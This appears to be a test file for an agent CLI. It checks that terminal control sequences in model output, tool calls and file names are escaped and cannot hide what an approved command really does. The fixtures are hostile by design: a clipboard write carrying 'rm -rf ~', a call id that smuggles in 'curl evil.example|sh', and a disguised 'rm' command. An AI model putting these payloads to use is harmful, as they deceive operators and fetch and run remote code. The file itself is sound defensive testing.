// The operator's terminal, end to end: a run whose server errors, model name, model text, call ids, tool arguments (a
// Bash command waiting for approval under --ask prompt, approved with `approve`), file names, tool output and answer are
// full of control sequences — clipboard writes, title changes, screen clears, CR and erase-line, C1 controls, bidi
// overrides. `run`, `status`, `list`, `approve`, `history` and `watch` write no raw ESC, C0 or C1 control and no bidi
// or zero-width character to stdout or stderr, show the command escaped with a note, while their `--json` output
// decodes back to the exact strings.
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { execa } from 'execa';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startScriptedModelServer } from '../../src/scripted-model/server.js';
import { durableAgentBin } from '../support/cli.js';
import type { Harness } from '../support/harness.js';
import { startHarness, temporalAddress, workspaceFrom } from '../support/harness.js';
import { pendingApproval, waitFor } from '../support/wait.js';

const OSC52 = '\u001b]52;c;cm0gLXJmIH4=\u0007';
const TITLE = '\u001b]0;owned\u001b\\';
const CLEAR = '\u001b[2J\u001b[H';
const HIDE_LINE = '\r\u001b[2K';
const C1 = '\u009b2J\u009d0;t\u009c\u0085';
const BIDI = '\u202e\u2066\u200f';
const INVISIBLE = '\u200b\ufeff\u{e0041}';

/** Text carrying every kind of sequence, tagged so each place it shows up can be told apart. */
function hostile(tag: string): string {
  return `${tag}${OSC52}${TITLE}${CLEAR}${C1}${BIDI}${INVISIBLE}\b\u007f${HIDE_LINE}`;
}

const FILE_NAME = `notes${OSC52}${CLEAR}${C1}${BIDI}.txt`;
const CALL_ID = `call${CLEAR}; curl evil.example|sh`;
// Shown raw, a terminal would print `ls -la` over what really runs.
const COMMAND = `rm -f junk.txt${HIDE_LINE}${OSC52}${BIDI}ls -la`;
const MODEL = hostile('model-');
const ANSWER = `${hostile('answer')}\nsecond line${HIDE_LINE}\u001b[1Aall fine`;
const TASK = `tidy up ${TITLE}${BIDI}now`;

/** What a terminal would act on or hide: C0 but newline, DEL, C1, format characters, separators, lone surrogates. */
const RAW = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u;

interface Printed {
  exitCode: number | undefined;
  stdout: string;
  stderr: string;
}

/** The raw bytes of both streams hold no ESC nor C0 byte but newline, and decode to text with nothing hidden. */
function expectNothingRaw(what: string, printed: { stdout: Uint8Array; stderr: Uint8Array }): void {
  for (const [stream, bytes] of [
    ['stdout', printed.stdout],
    ['stderr', printed.stderr],
  ] as const) {
    const controls = [...bytes].filter((byte) => (byte < 0x20 && byte !== 0x0a) || byte === 0x7f);
    expect(controls, `${what} ${stream}: raw C0 bytes`).toEqual([]);
    const text = new TextDecoder('utf-8', { fatal: true }).decode(bytes);
    const hidden = Array.from(text).filter((character) => character !== '\n' && RAW.test(character));
    expect(
      hidden.map((character) => `U+${character.codePointAt(0)!.toString(16)}`),
      `${what} ${stream}: characters a terminal acts on`,
    ).toEqual([]);
  }
}

let harness: Harness;
beforeAll(async () => {
  harness = await startHarness();
});
afterAll(async () => {
  await harness?.close();
});

/** The CLI as `cliRunner` runs it, with the streams kept as bytes. */
function cli(args: string[]) {
  return execa(process.execPath, [durableAgentBin, ...args], {
    env: { TEMPORAL_ADDRESS: temporalAddress(), DURABLE_AGENT_TASK_QUEUE: harness.taskQueue },
    extendEnv: false,
    reject: false,
    stdin: 'ignore',
    encoding: 'buffer',
  });
}

async function printed(args: string[]): Promise<Printed> {
  const result = await cli(args);
  expectNothingRaw(args.slice(0, 2).join(' '), result);
  const decode = (bytes: Uint8Array) => new TextDecoder().decode(bytes);
  return { exitCode: result.exitCode, stdout: decode(result.stdout), stderr: decode(result.stderr) };
}

describe('control sequences from a run', () => {
  it('never reach the terminal raw, and --json keeps them exact', async () => {
    const workspace = await workspaceFrom();
    await writeFile(join(workspace, FILE_NAME), `${hostile('content')}\n`);
    await writeFile(join(workspace, 'junk.txt'), 'junk\n');
    const model = await startScriptedModelServer({
      script: [
        { error: { status: 500, body: { error: { message: hostile('server said ') } } } },
        {
          model: MODEL,
          content: hostile('thinking'),
          tool_calls: [
            { id: 'read', name: 'ReadFile', arguments: { path: FILE_NAME } },
            { id: 'missing', name: 'ReadFile', arguments: { path: `gone${hostile('path')}` } },
            { id: 'glob', name: 'Glob', arguments: { pattern: '*.txt' } },
          ],
        },
        { model: MODEL, tool_calls: [{ id: CALL_ID, name: 'Bash', arguments: { command: COMMAND } }] },
        { model: MODEL, content: ANSWER },
      ],
    });
    try {
      const running = cli([
        'run',
        '--cwd',
        workspace,
        '--ask',
        'prompt',
        '--base-url',
        model.url,
        '--model',
        'm',
        TASK,
      ]);
      let started = '';
      running.stderr.on('data', (chunk: Uint8Array) => (started += new TextDecoder().decode(chunk)));
      const workflowId = await waitFor(async () => /run (agent-\S+)/.exec(started)?.[1], 'the run to start');
      const pending = await pendingApproval(harness.client, workflowId, CALL_ID);
      expect(pending.command).toBe(COMMAND);

      const status = await printed(['status', workflowId]);
      expect(status.exitCode, status.stderr).toBe(0);
      expect(status.stdout).toContain(
        'rm -f junk.txt\\x0d\\x1b[2K\\x1b]52;c;cm0gLXJmIH4=\\x07\\u202e\\u2066\\u200fls -la',
      );
      const statusJson = JSON.parse((await printed(['status', workflowId, '--json'])).stdout) as {
        pendingApprovals: { callId: string; command: string }[];
      };
      expect(statusJson.pendingApprovals).toMatchObject([{ callId: CALL_ID, command: COMMAND }]);
      const listed = await printed(['list', '--limit', '200']);
      // The title's string terminator is ESC and a backslash: that backslash comes before an escape, so it is doubled.
      expect(listed.stdout).toContain('tidy up \\x1b]0;owned\\x1b\\\\\\u202e\\u2066\\u200fnow');
      const listedJson = JSON.parse((await printed(['list', '--json', '--limit', '200'])).stdout) as {
        workflowId: string;
        task: string;
      }[];
      expect(listedJson.find((row) => row.workflowId === workflowId)?.task).toBe(TASK);

      const approved = await printed(['approve', workflowId, CALL_ID]);
      expect(approved.exitCode, approved.stderr).toBe(0);
      expect(approved.stdout).toContain('approved call\\x1b[2J\\x1b[H; curl evil.example|sh on');

      const run = await running;
      expectNothingRaw('run', run);
      const stderr = new TextDecoder().decode(run.stderr);
      expect(run.exitCode, stderr).toBe(0);
      // The approval line shows the exact command, escaped, with the note; the suggested commands quote the call id.
      expect(stderr).toContain(
        `Bash ${'rm -f junk.txt\\x0d\\x1b[2K\\x1b]52;c;cm0gLXJmIH4=\\x07\\u202e\\u2066\\u200fls -la'}`,
      );
      expect(stderr).toMatch(/note: the command is shown with escapes/);
      expect(stderr).toContain(`durable-agent approve ${workflowId} 'call\\x1b[2J\\x1b[H; curl evil.example|sh'`);
      expect(stderr).toContain('notes\\x1b]52;c;cm0gLXJmIH4=\\x07\\x1b[2J\\x1b[H\\x9b2J');
      expect(new TextDecoder().decode(run.stdout)).toContain('second line\\x0d\\x1b[2K\\x1b[1Aall fine');

      const history = await printed(['history', workflowId]);
      expect(history.exitCode, history.stderr).toBe(0);
      expect(history.stdout).toContain('model-\\x1b]52;c;');
      expect(history.stdout).toContain('server said \\x1b]52;c;');
      const historyJson = JSON.parse((await printed(['history', workflowId, '--json'])).stdout) as {
        steps: { model: { model: string; failures: string[] }; tools: { callId: string }[] }[];
      };
      expect(historyJson.steps.map((step) => step.model.model)).toContain(MODEL);
      expect(historyJson.steps.flatMap((step) => step.tools.map((tool) => tool.callId))).toContain(CALL_ID);
      expect(historyJson.steps[0]!.model.failures.join('\n')).toContain(hostile('server said '));

      const watched = await printed(['watch', workflowId]);
      expect(watched.exitCode, watched.stderr).toBe(0);
      expect(watched.stderr).toContain('model-\\x1b]52;c;');
      const watchedJson = JSON.parse((await printed(['watch', workflowId, '--json'])).stdout) as { answer: string };
      expect(watchedJson.answer).toBe(ANSWER);
    } finally {
      await model.close();
    }
  }, 120_000);
});
